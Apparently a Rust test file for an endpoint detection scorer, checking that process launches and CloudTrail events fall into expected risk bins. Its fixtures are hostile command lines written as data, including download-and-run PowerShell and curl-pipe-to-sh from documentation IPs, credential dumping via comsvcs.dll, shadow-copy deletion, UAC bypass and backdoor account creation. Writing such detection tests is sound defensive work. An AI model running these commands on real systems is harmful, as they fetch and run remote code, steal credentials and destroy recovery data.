//! The starter model holds to its own checks and tells plain cases apart.

use super::*;

fn starter() -> Model {
    let json = include_bytes!("../../../../host-harness/glassbox/starter/model.json");
    Model::parse(json).unwrap_or_else(|error| panic!("the starter model: {error}"))
}

fn bins(model: &Model, origin: Origin<'_>, values: &[(&str, &str)], level: Level) -> (i32, BTreeMap<String, String>) {
    let (extractor, record) = Record::new(model, values);
    let content = extractor.extract(&record.bytes, origin, &record);
    let hits = [HitFacts { level: Some(level), ..HitFacts::default() }];
    let circumstances = Circumstances::default();
    let inputs = Inputs { hits: &hits, content: &content, past: &NoPast, circumstances, evidence_before: 0 };
    let scored = model.score(&inputs);
    let bins = scored.contributions.into_iter().map(|contribution| {
        let term = &model.terms()[contribution.term as usize];
        (term.name.clone(), term.bin_name(contribution.bin).expect("it is there").to_owned())
    });
    (scored.points, bins.collect())
}

/// The bins, other than those that say nothing, of one process start.
fn check_process(parent: &str, image: &str, command: &str, expected: &[(&str, &str)]) {
    let model = starter();
    let values = [("ParentImage", parent), ("Image", image), ("CommandLine", command), ("User", r"CORP\alice")];
    let linux = Origin { product: Some("linux"), ..PROCESS };
    let origin = if image.starts_with('/') { linux } else { PROCESS };
    let (_, bins) = bins(&model, origin, &values, Level::Medium);
    for (term, bin) in expected {
        assert_eq!(bins.get(*term).map(String::as_str), Some(*bin), "{term} of {command}");
    }
}

#[test]
fn an_office_program_that_starts_an_encoded_download() {
    check_process(
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        &[
            ("parent-process", "office-app"),
            ("program", "shell"),
            ("parent-and-program", "document-runs-code"),
            ("program-path", "system-folder"),
            ("command-encoding", "encoded-command"),
            ("command-stealth", "hides-and-bypasses"),
            ("command-download", "none"),
            ("account", "person"),
        ],
    );
}

#[test]
fn commands_fall_into_the_bins_a_person_would_choose() {
    let check = |command: &str, expected: &[(&str, &str)]| {
        check_process(r"C:\Windows\explorer.exe", r"C:\Windows\System32\cmd.exe", command, expected);
    };
    check("cmd /c p^ow^ersh^ell", &[("command-obfuscation", "carets")]);
    check(
        "powershell IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')",
        &[("command-download", "fetches-and-runs"), ("command-target", "bare-address")],
    );
    check(
        "certutil.exe -urlcache -f https://example.com/a.txt a.exe",
        &[("command-download", "abused-program"), ("command-target", "url")],
    );
    check("vssadmin.exe Delete Shadows /all /quiet", &[("command-aim", "destroys-recovery")]);
    check(
        "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 c:\\t.dmp full",
        &[("command-aim", "credentials")],
    );
    check("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \"", &[("program-abuse", "runs-other-code")]);
    check("regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll", &[("program-abuse", "runs-other-code")]);
    check("wmic /node:10.0.0.7 process call create calc.exe", &[("program-abuse", "runs-other-code")]);
    check(
        "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 c:\\t.dmp full",
        &[("program-abuse", "dumps-memory")],
    );
    check("cmd /c start fodhelper.exe", &[("program-abuse", "passes-consent")]);
    check("cmd /c type c:\\a.exe > c:\\b.txt:a.exe", &[("program-abuse", "hides-in-stream")]);
    check(&format!("cmd /c{}calc", " ".repeat(60)), &[("command-spacing", "pushed-out")]);
    check("cmd\u{a0}/c calc", &[("command-spacing", "unusual")]);
    check("net user bob Passw0rd /add", &[("command-aim", "creates-access")]);
    check(
        "notepad.exe C:\\Users\\alice\\notes.txt",
        &[
            ("command-encoding", "none"),
            ("command-obfuscation", "none"),
            ("command-download", "none"),
            ("command-target", "none"),
            ("command-stealth", "none"),
            ("command-aim", "none"),
            ("double-extension", "none"),
            ("command-length", "short"),
            ("command-entropy", "ordinary"),
            ("command-spacing", "none"),
            ("program-abuse", "none"),
        ],
    );
    check("\"C:\\Users\\alice\\Downloads\\invoice.pdf.exe\"", &[("double-extension", "program-as-document")]);
}

#[test]
fn linux_programs_are_known_too() {
    check_process(
        "/usr/sbin/apache2",
        "/usr/bin/bash",
        "bash -c 'curl http://198.51.100.7/x | sh'",
        &[
            ("parent-process", "server"),
            ("program", "shell"),
            ("parent-and-program", "server-runs-code"),
            ("command-download", "fetches-and-runs"),
        ],
    );
    check_process("/usr/bin/bash", "/tmp/.x/kworker", "/tmp/.x/kworker", &[("program-path", "temporary-folder")]);
}

#[test]
fn other_logsources_have_their_own_terms() {
    let model = starter();
    let aws = Origin { product: Some("aws"), service: Some("cloudtrail"), categories: &[] };
    let values = [("userIdentity.type", "Root"), ("sourceIPAddress", "203.0.113.9"), ("userAgent", "aws-cli/2.15")];
    let (_, bins) = bins(&model, aws, &values, Level::High);
    assert_eq!(bins["cloud-identity"], "root");
    assert_eq!(bins["cloud-client"], "command-line");
    assert_eq!(bins["cloud-source"], "outside");
    assert!(!bins.contains_key("program") && !bins.contains_key("destination"), "{bins:?}");
}

#[test]
fn an_attack_ranks_above_the_background() {
    let model = starter();
    let attack = [
        ("ParentImage", r"C:\Office\EXCEL.EXE"),
        ("Image", r"C:\Users\Public\a.exe"),
        ("CommandLine", "a.exe http://198.51.100.7/b"),
    ];
    let background = [
        ("ParentImage", r"C:\Windows\System32\services.exe"),
        ("Image", r"C:\Program Files\Backup\agent.exe"),
        ("CommandLine", "agent.exe --service"),
    ];
    let (attack, _) = bins(&model, PROCESS, &attack, Level::Medium);
    let (background, _) = bins(&model, PROCESS, &background, Level::Medium);
    assert!(attack > background + 1500, "{attack} {background}");
}

#[test]
fn every_phrase_can_be_looked_up() {
    let model = starter();
    for term in model.terms() {
        for bin in &term.bins {
            let at = term.bins.iter().position(|other| other.name == bin.name).expect("it is there") as u32;
            assert_eq!(term.phrase(Some(at)), Some(bin.phrase.as_str()));
            assert_eq!(term.bin_name(Some(at)), Some(bin.name.as_str()));
            let one_by_one: Vec<_> = (0..bin.predicate_count()).filter_map(|number| bin.predicate(number)).collect();
            assert_eq!(one_by_one, bin.predicates().collect::<Vec<_>>());
            assert_eq!(bin.predicate(bin.predicate_count()), None);
        }
        assert_eq!(term.phrase(None).is_some(), term.feature.may_be_missing());
    }
}
